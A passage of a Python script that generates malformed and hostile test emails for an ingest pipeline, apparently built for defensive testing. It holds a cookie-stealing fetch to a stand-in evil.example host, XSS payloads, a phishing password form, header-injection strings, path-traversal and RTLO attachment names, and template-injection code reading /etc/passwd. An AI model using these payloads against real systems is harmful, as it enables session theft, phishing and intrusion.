#!/usr/bin/env python3
"""Writes Corpus/hostile/*.eml: malformed and hostile email for the ingest tests, plus Corpus/hostile/README.md.

Usage: python3 make_hostile_corpus.py [OUT_DIR]   (default: hostile/ next to this script)

Deterministic: the same bytes on every run (random data comes from random.Random with fixed seeds).
Every file carries an `X-Corpus-Note:` header saying what it tests, except where a header would defeat
the case (no headers, empty, binary...); README.md lists every file either way.
The whole corpus stays under 12 MB (checked at the end).
"""
import base64
import binascii
import re
import os
import random
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else os.path.join(HERE, "hostile")
MAX_TOTAL = 12 * 1024 * 1024

CASES = []  # (file name, note, note_in_header)


def crlf(text):
    """Normalises a str with \\n line ends to CRLF."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def add(name, note, data, note_in_header=True):
    """data: bytes (written as is) or str (CRLF line ends, ASCII). Prepends X-Corpus-Note when note_in_header."""
    assert note.isascii() and "\n" not in note
    if isinstance(data, str):
        data = crlf(data).encode("ascii")
    if note_in_header:
        data = b"X-Corpus-Note: " + note.encode("ascii") + b"\r\n" + data
    CASES.append((name + ".eml", note, note_in_header, data))


_ids = 0


def std(subject="Pothole on Station Road", frm="Jane Constituent <jane@example.org>", msgid=None, extra=""):
    """A set of ordinary headers (str, CRLF later) so each case differs from normal in one way."""
    global _ids
    if msgid is None:  # unique per file, ASCII, so that no test de-duplicates two corpus files by Message-ID
        _ids += 1
        msgid = "<" + (re.sub(r"[^a-z0-9]+", "-", subject.lower()).strip("-")[:40] or "msg") + f".{_ids}@example.org>"
    return (f"From: {frm}\nTo: Office of the MP <office@mp.example>\nSubject: {subject}\n"
            f"Date: Mon, 03 Mar 2025 09:15:00 +0000\nMessage-ID: {msgid}\nMIME-Version: 1.0\n{extra}")


PLAIN = "Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 7bit\n"
BODY = "Dear MP,\n\nThe pothole outside number 12 has been there since January.\n\nJane\n"


def b64lines(data, width=76):
    enc = base64.b64encode(data).decode("ascii")
    return "\n".join(enc[i:i + width] for i in range(0, len(enc), width)) + "\n"


# ---------------------------------------------------------------- addresses
add("from-missing", "no From header at all",
    "To: office@mp.example\nSubject: No sender\nDate: Mon, 03 Mar 2025 09:15:00 +0000\nMessage-ID: <from-missing@example.org>\n" + PLAIN + "\n" + BODY)
add("from-no-address", "From has a display name but no address",
    std("Display name only", frm="Jane Constituent") + PLAIN + "\n" + BODY)
add("from-empty", "From header present with an empty value",
    std("Empty from", frm="") + PLAIN + "\n" + BODY)
add("from-invalid-addresses", "From with syntactically invalid addresses (double @, unterminated angle, dots)",
    std("Bad addresses", frm='jane@@example..org, <not an address>, "Unterminated <x@') + PLAIN + "\n" + BODY)
add("from-group-empty", "From is an empty group (undisclosed-recipients:;)",
    std("Group from", frm="undisclosed-recipients:;") + PLAIN + "\n" + BODY)
add("from-multiple-with-sender", "two From mailboxes with a Sender header",
    std("Two senders", frm="Jane <jane@example.org>, John <john@example.org>", extra="Sender: jane@example.org\n") + PLAIN + "\n" + BODY)
add("from-two-headers", "two separate From header lines with different addresses",
    std("Duplicate From", extra="From: Impostor <impostor@evil.example>\n") + PLAIN + "\n" + BODY)
add("from-display-name-spoof", "display name is another address (the MP's) and contains angle brackets",
    std("Urgent from the Speaker", frm='"speaker@parliament.example <speaker@parliament.example>" <evil@evil.example>') + PLAIN + "\n" + BODY)
add("from-unicode-tricks", "From display name with right-to-left override, zero-width joiners and Cyrillic homoglyphs (RFC 2047)",
    std("Unicode tricks", frm="=?utf-8?B?" + base64.b64encode("Jаne\u202eelgoog\u200d Constituent".encode()).decode() + "?= <jane@example.org>")
    + PLAIN + "\n" + BODY)
add("reply-to-elsewhere", "Reply-To points at a different domain than From",
    std("Please reply to my other address", extra="Reply-To: Harvester <harvest@evil.example>\n") + PLAIN + "\n" + BODY)
add("to-1000-recipients", "To header with 1,000 recipients, folded",
    std("Mass mail").replace("To: Office of the MP <office@mp.example>\n",
                             "To: " + ",\n ".join(f"r{i}@example.net" for i in range(1000)) + ", office@mp.example\n") + PLAIN + "\n" + BODY)

# ---------------------------------------------------------------- structure of the file itself
add("no-headers-at-all", "no header block: the file starts with body text", (
    "Dear MP,\n\nThis file has no headers at all, just the letter.\n\nJane\n").replace("\n", "\r\n").encode(), note_in_header=False)
add("headers-only-no-body", "headers and no blank line, no body",
    std("Headers only") + PLAIN)
add("headers-only-no-final-newline", "headers only, the last header line has no line ending",
    crlf(std("No final newline") + PLAIN).rstrip("\r\n").encode("ascii"))
add("empty", "0-byte file", b"", note_in_header=False)
add("binary-garbage", "4 KiB of random bytes (seed 1), not a message at all",
    random.Random(1).randbytes(4096), note_in_header=False)
add("nul-bytes-in-body", "NUL bytes scattered through a text/plain body",
    crlf(std("NULs in body") + PLAIN + "\n").encode() + b"Dear MP,\x00\x00 the\x00 council\r\n\x00\r\nJane\x00\r\n")
add("nul-byte-in-header", "NUL byte inside the Subject header value",
    crlf("From: jane@example.org\nTo: office@mp.example\n").encode() + b"Subject: before\x00after\r\n"
    + crlf("Message-ID: <nul-header@example.org>\nDate: Mon, 03 Mar 2025 09:15:00 +0000\n\n" + BODY).encode())
add("header-line-without-colon", "a line inside the header block that is not a header",
    std("Broken header block").replace("MIME-Version: 1.0\n", "This is not a header\nMIME-Version: 1.0\n") + PLAIN + "\n" + BODY)
add("header-name-oddities", "space before colon, empty header name, header name with 8-bit-free punctuation",
    std("Odd names").replace("Subject: Odd names", "Subject : Odd names") + ": no name\nX-We!rd{Name}: value\n" + PLAIN + "\n" + BODY)
add("header-folding-injection", "Subject folded so the continuation line looks like a Bcc header",
    std("hi").replace("Subject: hi\n", "Subject: hi\n Bcc: evil@evil.example\n") + PLAIN + "\n" + BODY)
add("header-line-over-998", "a 3,000-character unfolded Subject and a 5,000-character X- header (over the 998 limit)",
    std("L" * 3000, msgid="<long-header@example.org>", extra="X-Long: " + "y" * 5000 + "\n") + PLAIN + "\n" + BODY)
add("header-folded-5000-lines", "one header folded over 5,000 continuation lines",
    std("Folded", extra="X-Folded: start\n" + "".join(f" part{i}\n" for i in range(5000))) + PLAIN + "\n" + BODY)
add("headers-10000", "10,000 header fields (header-count bomb)",
    std("Many headers", extra="".join(f"X-H{i}: v{i}\n" for i in range(10000))) + PLAIN + "\n" + BODY)
add("mixed-crlf-lf", "line endings alternate between CRLF and bare LF, including around the blank line", (
    "From: jane@example.org\r\nTo: office@mp.example\nSubject: Mixed endings\r\nMessage-ID: <mixed@example.org>\n"
    "Date: Mon, 03 Mar 2025 09:15:00 +0000\r\n\nDear MP,\r\nline two\nline three\r\n").encode())
add("bare-cr", "classic-Mac bare CR line endings throughout (note header uses CR too)", b"", note_in_header=False)
CASES[-1] = (CASES[-1][0], CASES[-1][1], True,
             ("X-Corpus-Note: classic-Mac bare CR line endings throughout (note header uses CR too)\n" + std("Bare CR")
              + PLAIN + "\n" + BODY).replace("\n", "\r").encode())
add("lf-only", "Unix LF line endings only (common for .eml saved on Linux)", b"", note_in_header=False)
CASES[-1] = (CASES[-1][0], CASES[-1][1], True,
             ("X-Corpus-Note: Unix LF line endings only (common for .eml saved on Linux)\n" + std("LF only") + PLAIN + "\n" + BODY).encode())
add("utf8-bom", "UTF-8 byte order mark before the first header (note is the second line, the BOM must stay first)", b"", note_in_header=False)
CASES[-1] = (CASES[-1][0], CASES[-1][1], True,
             b"\xef\xbb\xbf" + crlf(std("BOM at start") + "X-Corpus-Note: UTF-8 BOM before the first header\n" + PLAIN + "\n" + BODY).encode())
add("mbox-from-line", "mbox 'From ' separator line before the headers (note after it)", b"", note_in_header=False)
CASES[-1] = (CASES[-1][0], CASES[-1][1], True,
             crlf("From sender@example.org Mon Jan  1 00:00:00 2024\nX-Corpus-Note: mbox From_ line before the headers\n"
                  + std("mbox style", frm="sender@example.org") + PLAIN + "\n" + BODY + "\n>From the body, quoted mbox-style\n").encode())
add("huge-single-line", "a 2 MiB body line with no newline anywhere in the body and none at the end of file",
    crlf(std("One enormous line") + PLAIN + "\n").encode()
    + (b"The pothole is still there and nobody has come to fix it. " * 40000)[:2 * 1024 * 1024])

# ---------------------------------------------------------------- bodies
add("empty-body-with-subject", "subject present, body is zero bytes after the blank line",
    std("Nothing to say") + PLAIN + "\n")
add("whitespace-only-body", "body is only spaces, tabs and blank lines",
    std("Whitespace body") + PLAIN + "\n   \n\t\t\n \n\n\t \n")
add("body-8bit-no-mime", "raw UTF-8 body with no MIME-Version / Content-Type / CTE at all", b"", note_in_header=False)
CASES[-1] = (CASES[-1][0], CASES[-1][1], True,
             crlf("X-Corpus-Note: raw UTF-8 body with no MIME headers at all\nFrom: jane@example.org\nTo: office@mp.example\n"
                  "Subject: No MIME\nMessage-ID: <no-mime@example.org>\nDate: Mon, 03 Mar 2025 09:15:00 +0000\n\n"
                  "Café closed, £5 fine, naïve council — “thanks” 😀\n").encode("utf-8"))
add("body-uuencoded", "old-style uuencoded attachment inline in a text/plain body",
    std("uuencode") + PLAIN + "\nSee attached.\n\nbegin 644 note.txt\n"
    + binascii.b2a_uu(b"Hello from the constituent, see the pothole.").decode("ascii") + "`\nend\n")

# ---------------------------------------------------------------- 8-bit headers and charsets
add("raw-utf8-headers", "raw 8-bit UTF-8 in Subject and From display name, no RFC 2047",
    crlf(std("Café on Hûgh Street — “broken” 😀", frm="Zoë Ångström <zoe@example.org>") + PLAIN + "\n" + BODY).encode("utf-8"))
add("raw-latin1-headers", "raw 8-bit ISO-8859-1 in Subject and From display name, no RFC 2047",
    crlf(std("Café closed, £5 fine, naïve", frm="Zoë Ångström <zoe@example.org>") + PLAIN + "\n" + BODY).encode("latin-1"))
add("rfc2047-unknown-charset", "RFC 2047 encoded words in an unknown charset (x-unknown) in Subject and From",
    std("=?x-unknown?Q?Caf=E9_closed?=", frm="=?x-unknown?B?SmFuZQ==?= <jane@example.org>") + PLAIN + "\n" + BODY)
add("rfc2047-malformed", "unterminated encoded word, bad base64 in B word, encoded word inside a quoted string",
    std("=?utf-8?q?unterminated_word and =?utf-8?B?!!!notbase64?= end",
        frm='"=?utf-8?q?Jane_in_quotes?=" <jane@example.org>') + PLAIN + "\n" + BODY)
add("subject-crlf-injection", "RFC 2047 Q-encoded Subject decoding to CR LF + Bcc header",
    std("=?utf-8?q?hi=0D=0ABcc:_evil@example.com?=") + PLAIN + "\n" + BODY)
add("subject-crlf-injection-b64", "RFC 2047 B-encoded Subject and From name decoding to CR LF + headers and a blank line",
    std("=?utf-8?B?" + base64.b64encode(b"hi\r\nBcc: evil@example.com\r\n\r\nInjected body").decode() + "?=",
        frm="=?utf-8?B?" + base64.b64encode(b"Jane\r\nTo: evil@example.com").decode() + "?= <jane@example.org>") + PLAIN + "\n" + BODY)
add("body-charset-x-made-up", "text/plain declared with charset=x-made-up, 8-bit bytes inside",
    crlf(std("Made-up charset") + "Content-Type: text/plain; charset=x-made-up\nContent-Transfer-Encoding: 8bit\n\n").encode()
    + "Caf\u00e9 \u00a35\r\n".encode("latin-1"))
add("body-charset-mislabelled", "declared charset=utf-8 but the body is Latin-1 (invalid UTF-8)",
    crlf(std("Mislabelled") + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n").encode()
    + "Caf\u00e9 closed, \u00a35 fine, na\u00efve\r\n".encode("latin-1"))
add("body-invalid-utf8", "charset=utf-8 with overlong sequences, lone surrogates, truncated sequences",
    crlf(std("Invalid UTF-8") + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n").encode()
    + b"overlong \xc0\xaf slash, surrogate \xed\xa0\x80, truncated \xe2\x82, stray \x80\xbf, ok \xe2\x82\xac\r\n")
ENCODED_TEXTS = [
    ("utf-7", "utf_7", "Dear MP, caf\u00e9 \u00a35 \u20ac10 \u201cquoted\u201d \u65e5\u672c"),
    ("gb2312", "gb2312", "\u5c0a\u656c\u7684\u8bae\u5458\uff0c\u6211\u5bb6\u95e8\u524d\u7684\u8def\u6709\u4e00\u4e2a\u5751\u3002"),
    ("koi8-r", "koi8_r", "\u0423\u0432\u0430\u0436\u0430\u0435\u043c\u044b\u0439 \u0434\u0435\u043f\u0443\u0442\u0430\u0442, \u043d\u0430 \u0434\u043e\u0440\u043e\u0433\u0435 \u044f\u043c\u0430."),
    ("windows-1252", "cp1252", "Dear MP, \u201csmart quotes\u201d \u2013 \u20ac10 \u00a35 caf\u00e9 \u2122 \u2026"),
    ("iso-2022-jp", "iso2022_jp", "\u8b70\u54e1\u69d8\u3001\u5bb6\u306e\u524d\u306e\u9053\u306b\u7a74\u304c\u3042\u308a\u307e\u3059\u3002"),
    ("shift_jis", "shift_jis", "\u8b70\u54e1\u69d8\u3001\u5bb6\u306e\u524d\u306e\u9053\u306b\u7a74\u304c\u3042\u308a\u307e\u3059\u3002\uff71\uff72\uff73"),
]
for label, codec, text in ENCODED_TEXTS:
    body = (text + "\n").replace("\n", "\r\n").encode(codec)
    cte = "7bit" if label in ("utf-7", "iso-2022-jp") else "8bit"
    subj = "=?" + label + "?B?" + base64.b64encode(text[:12].encode(codec)).decode() + "?="
    add("charset-" + label.replace("_", "-"), f"real {label} text in the body (CTE {cte}) and in an RFC 2047 Subject",
        crlf(std(subj, msgid=f"<charset-{label}@example.org>") + f"Content-Type: text/plain; charset={label}\nContent-Transfer-Encoding: {cte}\n\n").encode() + body)
add("charset-only-in-html-meta", "text/html with no charset parameter; windows-1251 only declared in a <meta> tag",
    crlf(std("Meta charset") + "Content-Type: text/html\nContent-Transfer-Encoding: 8bit\n\n").encode()
    + "<html><head><meta charset=\"windows-1251\"></head><body><p>\u0423\u0432\u0430\u0436\u0430\u0435\u043c\u044b\u0439 \u0434\u0435\u043f\u0443\u0442\u0430\u0442</p></body></html>\r\n".encode("cp1251"))

# ---------------------------------------------------------------- transfer encodings
add("base64-broken", "base64 body with invalid characters, bad padding mid-stream and a truncated final quantum",
    std("Broken base64") + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
    + "RGVhciBNUCwKClRoZSBwb3Rob2xl*IG91dHNpZGUg!!bnVtYmVy\nIDEyIGhhcyBi==ZWVuIHRoZXJl\nIHNpbmNlIEphbnVhcnku$$$\nSmFu\n")
add("qp-broken", "quoted-printable with =ZZ, = at end of body, lowercase hex, 8-bit bytes and 300-char lines",
    crlf(std("Broken QP") + "Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: quoted-printable\n\n").encode()
    + b"Caf=E9 =ZZ closed =e9 =\r\n=3\r\nraw \xe9 byte " + b"x" * 300 + b"\r\nlast=")
add("cte-unknown", "Content-Transfer-Encoding: x-foo (unknown) on a text part",
    std("Unknown CTE") + "Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: x-foo\n\n" + BODY)
add("content-type-garbage", "Content-Type header that is unparseable (;;;===)",
    std("Garbage content type") + "Content-Type: ;;;===; charset\n\n" + BODY)

# ---------------------------------------------------------------- MIME structure
add("multipart-truncated", "multipart/mixed cut off inside the second part, no closing boundary",
    std("Truncated multipart") + 'Content-Type: multipart/mixed; boundary="XX"\n\n--XX\n' + PLAIN + "\n" + BODY
    + "--XX\nContent-Type: application/pdf; name=\"letter.pdf\"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQKJcfs")
add("multipart-boundary-never-appears", "multipart/mixed whose declared boundary never occurs in the body",
    std("Missing boundary") + 'Content-Type: multipart/mixed; boundary="never-used"\n\n--other\n' + PLAIN + "\n" + BODY + "--other--\n")
add("multipart-no-boundary-parameter", "multipart/alternative with no boundary parameter",
    std("No boundary param") + "Content-Type: multipart/alternative\n\n--abc\n" + PLAIN + "\n" + BODY + "--abc--\n")
add("multipart-empty", "multipart/mixed with only a closing boundary (zero parts)",
    std("Zero parts") + 'Content-Type: multipart/mixed; boundary="Z"\n\nPreamble only.\n--Z--\n')


def nested(depth):
    s = ""
    for level in range(depth):
        s += f'Content-Type: multipart/mixed; boundary="d{level}"\n\n--d{level}\n'
    s += PLAIN + "\nInnermost part at depth %d.\n" % depth
    for level in reversed(range(depth)):
        s += f"--d{level}--\n"
    return s


add("mime-bomb-depth-60", "multipart/mixed nested 60 levels deep (MIME bomb by depth)", std("Deep") + nested(60))
add("mime-bomb-count-2000", "multipart/mixed with 2,000 tiny text parts (MIME bomb by count)",
    std("Many parts") + 'Content-Type: multipart/mixed; boundary="p"\n\n'
    + "".join(f"--p\nContent-Type: text/plain\n\npart {i}\n" for i in range(2000)) + "--p--\n")


def rfc822_chain(depth):
    inner = ("From: jane@example.org\nTo: office@mp.example\nSubject: The original\nMessage-ID: <orig@example.org>\n"
             "Date: Mon, 03 Mar 2025 09:15:00 +0000\nMIME-Version: 1.0\n" + PLAIN + "\n" + BODY)
    for level in range(depth):
        inner = (f"From: fwd{level}@example.org\nTo: office@mp.example\nSubject: Fwd {level}\nMessage-ID: <fwd{level}@example.org>\n"
                 f"Date: Mon, 03 Mar 2025 09:15:00 +0000\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"f{level}\"\n\n"
                 f"--f{level}\n{PLAIN}\nForwarded, level {level}.\n--f{level}\nContent-Type: message/rfc822\n\n{inner}--f{level}--\n")
    return inner


add("rfc822-nested-30", "message/rfc822 forwarded inside message/rfc822 30 levels deep", rfc822_chain(30))
add("rfc822-forwarded", "a constituent's email forwarded by a caseworker as a message/rfc822 attachment", rfc822_chain(1))
add("attachment-5mb", "a 5 MiB base64 PDF-ish attachment (seed 5)",
    std("Big attachment") + 'Content-Type: multipart/mixed; boundary="big"\n\n--big\n' + PLAIN + "\nSee the attached photos.\n"
    + '--big\nContent-Type: application/pdf; name="evidence.pdf"\nContent-Disposition: attachment; filename="evidence.pdf"\n'
    "Content-Transfer-Encoding: base64\n\n" + b64lines(b"%PDF-1.4\n" + random.Random(5).randbytes(5 * 1024 * 1024 - 9)) + "--big--\n")
add("attachment-hostile-filenames", "attachment names: path traversal, RTLO-disguised .exe, RFC 2231 UTF-8, very long, NUL-free control chars",
    std("Hostile filenames") + 'Content-Type: multipart/mixed; boundary="fn"\n\n--fn\n' + PLAIN + "\n" + BODY
    + '--fn\nContent-Type: text/plain; name="../../../../etc/passwd"\nContent-Disposition: attachment; filename="../../../../etc/passwd"\n\nroot:x:0:0\n'
    + '--fn\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8\'\'invoice%E2%80%AEfdp.exe\n'
      "Content-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n"
    + '--fn\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename="' + "a" * 1000 + '.txt"\n\nlong\n'
    + '--fn\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename="con\tnul\x07.txt"\n\nctl\n--fn--\n')
add("tnef-winmail-dat", "Outlook TNEF winmail.dat attachment (application/ms-tnef) with a plausible TNEF stream", b"", note_in_header=False)


def tnef():
    def attr(level, attr_id, data):
        return struct.pack("<BII", level, attr_id, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)
    stream = struct.pack("<IH", 0x223E9F78, 0x0001)
    stream += attr(1, 0x00089006, struct.pack("<I", 0x00010000))          # attTnefVersion
    stream += attr(1, 0x00069007, struct.pack("<II", 1252, 0))            # attOemCodepage
    stream += attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")           # attMessageClass
    stream += attr(1, 0x00018004, b"Pothole\0")                           # attSubject
    stream += attr(1, 0x0002800C, b"Dear MP, see the pothole.\0")         # attBody
    stream += attr(2, 0x00018010, b"photo.jpg\0")                         # attAttachTitle
    stream += attr(2, 0x0006800F, b"\xff\xd8\xff\xe0" + random.Random(7).randbytes(200))  # attAttachData
    return stream


CASES[-1] = (CASES[-1][0], CASES[-1][1], True, crlf(
    "X-Corpus-Note: Outlook TNEF winmail.dat attachment (application/ms-tnef)\n" + std("Outlook rich text")
    + 'Content-Type: multipart/mixed; boundary="tn"\n\n--tn\n' + PLAIN + "\n" + BODY
    + '--tn\nContent-Type: application/ms-tnef; name="winmail.dat"\nContent-Disposition: attachment; filename="winmail.dat"\n'
    "Content-Transfer-Encoding: base64\n\n" + b64lines(tnef()) + "--tn--\n").encode())
add("smime-signed", "multipart/signed S/MIME with a fake (random DER-looking) pkcs7 signature",
    std("Signed letter") + 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sig"\n\n'
    "This is an S/MIME signed message\n\n--sig\n" + PLAIN + "\n" + BODY
    + '--sig\nContent-Type: application/pkcs7-signature; name="smime.p7s"\nContent-Disposition: attachment; filename="smime.p7s"\n'
    "Content-Transfer-Encoding: base64\n\n" + b64lines(b"\x30\x82\x04\xa0\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + random.Random(11).randbytes(1185)) + "--sig--\n")
add("smime-encrypted", "application/pkcs7-mime enveloped-data the office cannot decrypt",
    std("Encrypted letter") + 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\n'
    'Content-Disposition: attachment; filename="smime.p7m"\nContent-Transfer-Encoding: base64\n\n'
    + b64lines(b"\x30\x82\x02\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03" + random.Random(13).randbytes(500)))
add("calendar-invite", "meeting invitation: multipart/alternative with text/calendar; method=REQUEST",
    std("Invitation: Surgery meeting") + 'Content-Type: multipart/alternative; boundary="cal"\n\n--cal\n' + PLAIN
    + "\nYou are invited to a meeting.\n--cal\nContent-Type: text/calendar; charset=utf-8; method=REQUEST\n\n"
    "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//Example//Corpus//EN\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:surgery-1@example.org\n"
    "DTSTAMP:20250303T091500Z\nDTSTART:20250310T100000Z\nDTEND:20250310T110000Z\nSUMMARY:Constituency surgery\n"
    "ORGANIZER:mailto:jane@example.org\nATTENDEE;RSVP=TRUE:mailto:office@mp.example\nEND:VEVENT\nEND:VCALENDAR\n--cal--\n")
add("inline-image-cid", "multipart/related HTML with an inline cid: image and a cid that matches nothing",
    std("Photo of the pothole") + 'Content-Type: multipart/related; boundary="rel"\n\n--rel\nContent-Type: text/html; charset=utf-8\n\n'
    '<p>See: <img src="cid:pothole@example.org"> and <img src="cid:missing@example.org"></p>\n'
    '--rel\nContent-Type: image/png\nContent-ID: <pothole@example.org>\nContent-Disposition: inline\nContent-Transfer-Encoding: base64\n\n'
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\n--rel--\n")

# ---------------------------------------------------------------- hostile HTML and template code
HOSTILE_HTML = """<html><head>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<style>body { width: expression(alert('css')); background: url("javascript:alert('bg')"); } @import url(https://evil.example/x.css);</style>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
</head><body onload="alert('body')">
<p>Dear MP, please <a href="javascript:alert('link')">click here</a> or <a href="JaVaScRiPt&#58;alert(1)">here</a>
or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">here</a>.</p>
<img src="x" onerror="alert('img')">
<img src="https://tracker.evil.example/pixel.gif?id=jane" width="1" height="1">
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<form action="https://evil.example/login" method="post"><input name="password" type="password"></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">Overlay</div>
<scr<script>ipt>alert('nested')</scr</script>ipt>
<!--[if IE]><script>alert('cc')</script><![endif]-->
</body></html>
"""
add("html-only-hostile", "HTML-only: script, onerror/onload, javascript:/data: links, iframe, object, embed, CSS expression(), tracking pixel, base href, meta refresh, form",
    std("Please read") + "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 7bit\n\n" + HOSTILE_HTML)
add("html-hostile-qp", "the same hostile HTML hidden behind quoted-printable soft breaks (<scr=\\nipt>)",
    std("Please read (QP)") + "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
    "<p>Hi</p><scr=\nipt>alert(1)</scr=\nipt><img src=3Dx one=\nrror=3D\"alert(2)\"><a href=3D\"java=\nscript:alert(3)\">x</a>\n")
TEMPLATE = ("{{ for i in 1..100000000 }}x{{ end }} {{ include '/etc/passwd' }} {{ date.now }} "
            "{{ constituent.email }} {% raw %}{% endraw %} ${7*7} <%= 7*7 %> @(7*7) {{7*7}}")
add("html-template-code", "HTML body carrying Scriban/Liquid/other template code: huge loop, include of /etc/passwd",
    std("Template test") + "Content-Type: text/html; charset=utf-8\n\n<p>" + TEMPLATE + "</p>\n")
add("text-template-code", "template code in the Subject, From display name and a text/plain body",
    std("{{ include '/etc/passwd' }}", frm="\"{{ for i in 1..100000000 }}x{{ end }}\" <jane@example.org>") + PLAIN + "\n" + TEMPLATE + "\n")
add("alternative-text-html-differ", "multipart/alternative where the text and HTML parts say different things",
    std("Two stories") + 'Content-Type: multipart/alternative; boundary="alt"\n\n--alt\n' + PLAIN
    + "\nPlease call me on 01234 567890.\n--alt\nContent-Type: text/html; charset=utf-8\n\n"
    "<p>Please send your bank details to <a href=\"https://evil.example\">the council</a>.</p>\n--alt--\n")

# ---------------------------------------------------------------- automatic mail
add("auto-submitted-auto-replied", "Auto-Submitted: auto-replied",
    std("Re: Your letter", extra="Auto-Submitted: auto-replied\n") + PLAIN + "\nThank you, your message was received.\n")
add("auto-submitted-auto-generated", "Auto-Submitted: auto-generated (notification)",
    std("Your council tax bill", extra="Auto-Submitted: auto-generated\n") + PLAIN + "\nYour bill is ready.\n")
add("x-autoreply", "X-Autoreply: yes and X-Autorespond headers",
    std("Re: Pothole", extra="X-Autoreply: yes\nX-Autorespond: Re: Pothole\n") + PLAIN + "\nI am away.\n")
add("precedence-bulk", "Precedence: bulk newsletter",
    std("Weekly newsletter", extra="Precedence: bulk\n") + PLAIN + "\nThis week's news.\n")
add("list-id", "mailing list traffic: List-Id, List-Unsubscribe, Precedence: list",
    std("[residents] Meeting", extra="List-Id: Residents <residents.lists.example.org>\nList-Unsubscribe: <mailto:leave@lists.example.org>\nPrecedence: list\n")
    + PLAIN + "\nMeeting on Tuesday.\n")
add("out-of-office-exchange", "Exchange-style out-of-office: 'Automatic reply:' subject, X-Auto-Response-Suppress, no Auto-Submitted",
    std("Automatic reply: Your letter", extra="X-Auto-Response-Suppress: All\nX-MS-Exchange-Inbox-Rules-Loop: jane@example.org\n")
    + PLAIN + "\nI am out of the office until Monday.\n")
add("out-of-office-subject-only", "out-of-office detectable only from the subject and body wording",
    std("Out of Office: Re: Your letter") + PLAIN + "\nI am currently out of the office with limited access to email.\n")
add("bounce-delivery-status", "DSN bounce: multipart/report delivery-status whose text/rfc822-headers part has Message-ID <reply-bounced@mp.example>",
    "Return-Path: <>\nFrom: Mail Delivery System <MAILER-DAEMON@mx.example.net>\nTo: office@mp.example\n"
    "Subject: Undelivered Mail Returned to Sender\nDate: Mon, 03 Mar 2025 09:20:00 +0000\nMessage-ID: <bounce-1@mx.example.net>\n"
    "Auto-Submitted: auto-replied\nMIME-Version: 1.0\n"
    'Content-Type: multipart/report; report-type=delivery-status; boundary="dsn"\n\n'
    "This is a MIME-encapsulated message.\n\n--dsn\nContent-Description: Notification\n" + PLAIN
    + "\nThis is the mail system at host mx.example.net.\n\nI'm sorry to have to inform you that your message could not\n"
    "be delivered to one or more recipients.\n\n<jane@example.org>: host mail.example.org said: 550 5.1.1 User unknown\n"
    "\n--dsn\nContent-Description: Delivery report\nContent-Type: message/delivery-status\n\n"
    "Reporting-MTA: dns; mx.example.net\nArrival-Date: Mon, 03 Mar 2025 09:19:58 +0000\n\n"
    "Final-Recipient: rfc822; jane@example.org\nOriginal-Recipient: rfc822;jane@example.org\nAction: failed\nStatus: 5.1.1\n"
    "Remote-MTA: dns; mail.example.org\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n"
    "\n--dsn\nContent-Description: Undelivered Message Headers\nContent-Type: text/rfc822-headers\n\n"
    "From: Office of the MP <office@mp.example>\nTo: Jane Constituent <jane@example.org>\nSubject: Re: Pothole on Station Road\n"
    "Date: Mon, 03 Mar 2025 09:19:50 +0000\nMessage-ID: <reply-bounced@mp.example>\nIn-Reply-To: <pothole-on-station-road@example.org>\n"
    "\n--dsn--\n")
add("bounce-legacy-text", "old-style bounce: MAILER-DAEMON, text/plain only, quoting the original headers",
    "Return-Path: <>\nFrom: MAILER-DAEMON@mx.example.net\nTo: office@mp.example\nSubject: failure notice\n"
    "Date: Mon, 03 Mar 2025 09:20:00 +0000\nMessage-ID: <bounce-2@mx.example.net>\n" + PLAIN
    + "\nHi. This is the qmail-send program. I'm afraid I wasn't able to deliver your message.\n\n"
    "<jane@example.org>:\nSorry, no mailbox here by that name. (#5.1.1)\n\n--- Below this line is a copy of the message.\n\n"
    "Message-ID: <reply-bounced-2@mp.example>\nFrom: office@mp.example\nSubject: Re: Pothole\n\nDear Jane,\n")

# ---------------------------------------------------------------- Message-ID, Date, threading
add("message-id-duplicate-headers", "two Message-ID header lines with different values",
    std("Two ids", msgid="<first-id@example.org>", extra="Message-ID: <second-id@example.org>\n") + PLAIN + "\n" + BODY)
add("message-id-absent", "no Message-ID header",
    "From: jane@example.org\nTo: office@mp.example\nSubject: No id\nDate: Mon, 03 Mar 2025 09:15:00 +0000\n" + PLAIN + "\n" + BODY)
add("message-id-malformed", "Message-ID without angle brackets, with spaces and a second bracketed id",
